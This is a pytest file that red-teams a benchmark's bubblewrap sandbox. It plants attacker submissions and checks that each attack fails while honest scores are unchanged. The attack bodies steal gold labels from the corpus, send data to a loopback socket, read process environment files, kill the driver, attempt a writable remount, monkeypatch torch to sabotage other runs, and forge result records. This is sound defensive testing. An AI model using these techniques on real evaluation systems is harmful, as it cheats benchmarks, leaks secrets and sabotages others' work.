"""Red team: submissions that try every hole we know of, in one sweep with an honest method.

Each attacker is a real submission run by the real harness on the local executor, inside
the bubblewrap sandbox (``benchmark/core/bwrap.py``). An attack that works returns the gold
labels it stole (accuracy 1.0); one that is stopped raises, so its record fails with the
reason the sandbox gave, or it falls back to what a method with no access scores. The
honest method in the same sweep must score exactly what it scores alone.
"""

from __future__ import annotations

import os
import socket
import sys
import threading
from pathlib import Path

import numpy as np
import pytest
import torch

from benchmark.core.bwrap import bwrap_works
from benchmark.results.records import iter_records, read_record
from benchmark.run.executors import ExecutorOptions
from benchmark.run.harness import Harness, RunSpec
from tests.conftest import TINY_SUITE, TINY_TASK

pytestmark = pytest.mark.skipif(
    bool(bwrap_works()) and not os.environ.get("CI"),
    reason=f"no sandbox on this machine ({bwrap_works()})")

HEADER = '''
import os
import numpy as np
from benchmark.api import Method, register

def chance(inp):
    return np.full((len(inp.test_ids), 2), 0.5)

def steal(inp, gold_by_id):
    """Return the labels of the test ids, as stolen; raises KeyError for unknown ids."""
    labels = np.array([gold_by_id[i] for i in inp.test_ids])
    return np.eye(2)[labels]
'''


def attacker(name: str, body: str) -> str:
    """A submission whose ``fit_predict`` is ``body`` (indented under it)."""
    indented = "\n".join("        " + line for line in body.strip().splitlines())
    return HEADER + f'''

@register("{name}")
class Attack(Method):
    """Red-team attack (tests)."""

    def fit_predict(self, inp):
{indented}
'''


def attacks(world, results: Path, port: int) -> dict[str, tuple[str, str]]:
    """name → (fit_predict body, what the record's error must say)."""
    corpus = world.cache / "assets" / "tiny-corpus" / "data.csv"
    frozen = world.frozen / "replicate-0.csv.gz"
    return {
        # the attack of the issue: hash the corpus texts as example_id does, look up the ids
        "corpus-lookup": (f'''
import hashlib
rows = open({str(corpus)!r}).read().splitlines()[1:]
def example_id(text):
    return hashlib.sha256(" ".join(text.split()).encode()).hexdigest()[:16]
gold = {{example_id(r.rsplit(",", 1)[0]): int(r.rsplit(",", 1)[1]) for r in rows}}
return steal(inp, gold)''', "No such file or directory"),
        "corpus-lookup-quiet": (f'''
try:
    rows = open({str(corpus)!r}).read()
except OSError:
    return chance(inp)  # what a method with no access can do
raise RuntimeError("read the corpus")''', ""),
        "frozen-files": (f"open({str(frozen)!r}, 'rb').read()\nreturn chance(inp)",
                         "No such file or directory"),
        "results-snoop": (f"os.listdir({str(results)!r})\nreturn chance(inp)",
                          "No such file or directory"),
        "other-scratch": (f"os.listdir({str(results / '.scratch')!r})\nreturn chance(inp)",
                          "No such file or directory"),
        "hf-cache": ("os.listdir(os.path.expanduser('~root/.cache'))\nreturn chance(inp)",
                     "No such file or directory"),
        "write-frozen": (f"open({str(world.frozen / 'lock.json')!r}, 'w').write('{{}}')",
                         "No such file or directory"),
        "rewrite-baseline": (f'''
path = {str(world.root / "baselines" / "naive.py")!r}
open(path, "a").write("\\nraise SystemExit")''', "Read-only file system"),
        "network": (f'''
import socket
socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"stolen")
return chance(inp)''', "Connection refused"),
        "signal-driver": (f"import signal\nos.kill({os.getpid()}, signal.SIGTERM)",
                          "No such process"),
        "read-driver-memory": (f"open('/proc/{os.getpid()}/environ').read()",
                               "No such file or directory"),
        "gold-loader": ('''
from benchmark.assets.catalog import asset_path
asset_path("rotten-tomatoes-critics")
return chance(inp)''', "w2s-bench fetch"),
        "remount-writable": ('''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
MS_REMOUNT, MS_BIND = 32, 4096
if libc.mount(None, b"/", None, MS_REMOUNT | MS_BIND, None) != 0:
    raise PermissionError(os.strerror(ctypes.get_errno()))
return chance(inp)''', "Operation not permitted"),
    }


SABOTAGE = HEADER + '''
import torch

# Import-time code: break every other method that shares this process (if any did).
torch.nn.functional.log_softmax = lambda x, dim=-1, **kw: torch.zeros_like(x)
torch.Tensor.backward = lambda self, *a, **k: None

@register("sabotage")
class Sabotage(Method):
    """Red-team attack (tests): monkeypatches torch when imported."""

    def fit_predict(self, inp):
        return chance(inp)
'''


def import_time_theft(corpus: Path, results: Path) -> str:
    """Runs at import, where discovery would run it: steal the corpus, forge a record."""
    return HEADER + f'''
import pathlib
STOLEN = open({str(corpus)!r}).read()
forged = pathlib.Path({str(results)!r}) / "forged.json"
forged.parent.mkdir(parents=True, exist_ok=True)
forged.write_text("{{}}")

@register("import-theft")
class ImportTheft(Method):
    """Red-team attack (tests): its module steals at import time."""

    def fit_predict(self, inp):
        return chance(inp)
'''


@pytest.fixture
def listener():
    """A TCP server on the host's loopback that records whether anything reached it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    got: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            got.append(conn.recv(100))
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], got
    stop.set()
    thread.join()
    server.close()


def test_every_attack_fails_with_its_reason_and_honest_runs_are_unaffected(
        tiny_world, tiny_task, tmp_path, listener, monkeypatch) -> None:
    monkeypatch.delenv("W2S_BENCH_SANDBOX", raising=False)
    monkeypatch.delenv("W2S_BENCH_TRUST_CODE", raising=False)
    port, received = listener
    clean = tmp_path / "clean"
    Harness(clean, workers=1, progress=False).run(
        [RunSpec(TINY_SUITE, TINY_TASK, "naive", k) for k in range(2)], {TINY_TASK: tiny_task})

    results = tmp_path / "attacked"
    table = attacks(tiny_world, results, port)
    for name, (body, _) in table.items():
        tiny_world.add_submission(name, attacker(name, body))
    tiny_world.add_submission("sabotage", SABOTAGE)
    corpus = tiny_world.cache / "assets" / "tiny-corpus" / "data.csv"
    tiny_world.add_submission("import-theft", import_time_theft(corpus, results))
    backward = torch.Tensor.backward
    methods = ["naive", "sabotage", "import-theft", *table]
    summary = Harness(results, workers=2, progress=False).run(
        [RunSpec(TINY_SUITE, TINY_TASK, m, k) for m in methods for k in range(2)],
        {TINY_TASK: tiny_task})
    assert len(table) >= 10 and summary.done + len(summary.failed) == 2 * len(methods)

    records = {(r.method, r.replicate): r for r in iter_records(results)}
    no_access = {k: read_record(RunSpec(TINY_SUITE, TINY_TASK, "sabotage", k).path(results))
                 for k in range(2)}
    for name, (_, reason) in table.items():
        for k in range(2):
            record = records[name, k]
            assert record.provenance.sandbox == "bwrap", name
            if reason:
                assert record.status == "failed", (name, record.metrics)
                assert reason in record.error.message, (name, record.error.message)
            else:  # it fell back: exactly what a method with no access scores
                assert record.status == "ok", (name, record.error)
                assert record.metrics.accuracy == no_access[k].metrics.accuracy
    assert received == [], "a run reached a server on the host's loopback"
    # import-time code ran only in the sandbox: not in this process, not on its disk
    assert torch.Tensor.backward is backward, "a submission's import patched the harness"
    assert not (results / "forged.json").exists()
    for k in range(2):
        theft = records["import-theft", k]
        assert theft.status == "failed" and "No such file or directory" in theft.error.message
    assert "raise SystemExit" not in (tiny_world.root / "baselines" / "naive.py").read_text()

    honest = {k: records["naive", k] for k in range(2)}
    alone = {r.replicate: r for r in iter_records(clean)}
    for k in range(2):
        assert honest[k].status == "ok"
        assert honest[k].metrics == alone[k].metrics, "an attacker changed an honest run"
        assert honest[k].provenance.sandbox == "bwrap"


def test_without_a_sandbox_submissions_need_trust_code(tiny_world, tiny_task, tmp_path,
                                                       monkeypatch, capsys) -> None:
    from benchmark.core.errors import W2SBenchError

    monkeypatch.setenv("W2S_BENCH_SANDBOX", "none")
    monkeypatch.delenv("W2S_BENCH_TRUST_CODE", raising=False)
    tiny_world.add_submission("plain", attacker("plain", "return chance(inp)"))
    runs = [RunSpec(TINY_SUITE, TINY_TASK, "plain", 0)]
    with pytest.raises(W2SBenchError, match="--trust-code"):
        Harness(tmp_path, workers=1, progress=False).run(runs, {TINY_TASK: tiny_task})
    assert not list(tmp_path.rglob("replicate-*.json"))
    # baselines run anyway; trusted code runs and says it was not sandboxed
    Harness(tmp_path, workers=1, progress=False, trust_code=True).run(
        [*runs, RunSpec(TINY_SUITE, TINY_TASK, "naive", 0)], {TINY_TASK: tiny_task})
    sandboxes = {r.method: r.provenance.sandbox for r in iter_records(tmp_path)}
    assert sandboxes == {"plain": "none", "naive": "none"}
    from benchmark.site.build import build_leaderboard

    build_leaderboard(tmp_path, tmp_path / "site", build_time="0")
    board = (tmp_path / "site" / "leaderboard.md").read_text()
    assert "| plain (no sandbox) " in board and "(no sandbox)" in (
        tmp_path / "site" / "index.html").read_text()
    # verify re-runs the code, so it refuses the same way, and --trust-code lets it through;
    # the registry was never given the untrusted code (no sandbox, no trust: read, not run)
    from benchmark.cli.main import main
    from benchmark.methods.catalog import METHODS

    assert getattr(METHODS.get("plain"), "examined_card", None) is not None
    assert "w2s_submissions.plain" not in sys.modules
    folder = str(tiny_world.root / "submissions" / "plain")
    assert main(["verify", folder, "--results-dir", str(tmp_path)]) == 2
    assert "--trust-code" in capsys.readouterr().err
    assert main(["verify", folder, "--results-dir", str(tmp_path), "--trust-code"]) == 0
    assert "W2S_BENCH_TRUST_CODE" not in os.environ  # for that one command only


def test_the_sandboxed_worker_sees_only_what_a_run_needs(tiny_world, tiny_task, tmp_path,
                                                          monkeypatch) -> None:
    """A look around from inside: the listing of / and of the places the harness keeps
    gold-adjacent files, dumped through the only channel a run has (its output)."""
    monkeypatch.delenv("W2S_BENCH_SANDBOX", raising=False)
    body = f'''
seen = {{p: os.path.exists(p) for p in {[str(tiny_world.cache), str(tiny_world.frozen),
                                        str(tmp_path), str(Path.home() / ".cache")]!r}}}
assert not any(seen.values()), seen
assert os.getcwd() == "/w2s/run/run", os.getcwd()
assert sorted(os.listdir("/w2s/run")) == ["run"], os.listdir("/w2s/run")
assert len([p for p in os.listdir("/proc") if p.isdigit()]) <= 4  # its sandbox only
np.load(inp.feature_file, mmap_mode="r")  # its feature file is readable (a descriptor)
return chance(inp)'''
    tiny_world.add_submission("look", attacker("look", body))
    Harness(tmp_path, workers=1, progress=False).run(
        [RunSpec(TINY_SUITE, TINY_TASK, "look", 0)], {TINY_TASK: tiny_task})
    record = read_record(RunSpec(TINY_SUITE, TINY_TASK, "look", 0).path(tmp_path))
    assert record.status == "ok", record.error
    assert np.isfinite(record.metrics.accuracy)


@pytest.mark.parametrize("executor", ["submitit-local", "ray"])
def test_the_corpus_lookup_fails_on_the_cluster_executors(executor, tiny_world, tiny_task,
                                                          tmp_path, monkeypatch) -> None:
    """A cluster job makes the same sandbox on its node (benchmark/run/node.py)."""
    if executor == "ray":
        pytest.importorskip("ray", reason="ray is the optional extra w2s-bench[ray]")
        monkeypatch.setenv("RAY_AUTH_MODE", "disabled")
    pytest.importorskip("submitit")
    monkeypatch.delenv("W2S_BENCH_SANDBOX", raising=False)
    monkeypatch.delenv("W2S_BENCH_TRUST_CODE", raising=False)
    body, reason = attacks(tiny_world, tmp_path, 9)["corpus-lookup"]
    tiny_world.add_submission("corpus-lookup", attacker("corpus-lookup", body))
    results = tmp_path / executor
    options = ExecutorOptions(workers=2, folder=results / ".jobs")
    Harness(results, progress=False, executor=executor, options=options).run(
        [RunSpec(TINY_SUITE, TINY_TASK, m, 0) for m in ("naive", "corpus-lookup")],
        {TINY_TASK: tiny_task})
    records = {r.method: r for r in iter_records(results)}
    attack, honest = records["corpus-lookup"], records["naive"]
    assert attack.status == "failed" and reason in attack.error.message, attack.error
    assert honest.status == "ok", honest.error
    assert {attack.provenance.sandbox, honest.provenance.sandbox} == {"bwrap"}
    assert honest.provenance.hardware["executor"] == executor


def test_the_ids_a_method_sees_identify_nothing_outside_its_run(tiny_world, tiny_task,
                                                                tmp_path, monkeypatch) -> None:
    """Opaque ids, the second line: even trusted code run unconfined, which can read the
    corpus, cannot map the ids it is given to texts (they are positions in its split)."""
    from tests.conftest import unconfined

    unconfined(monkeypatch)
    body, _ = attacks(tiny_world, tmp_path, 9)["corpus-lookup"]
    tiny_world.add_submission("corpus-lookup", attacker("corpus-lookup", body))
    run = RunSpec(TINY_SUITE, TINY_TASK, "corpus-lookup", 0)
    Harness(tmp_path, workers=1, progress=False).run([run], {TINY_TASK: tiny_task})
    record = read_record(run.path(tmp_path))
    assert record.status == "failed" and record.error.type == "KeyError", record.error
    assert record.error.message == "'0'"  # the first test id: a position, not a text hash
    assert record.provenance.sandbox == "none"
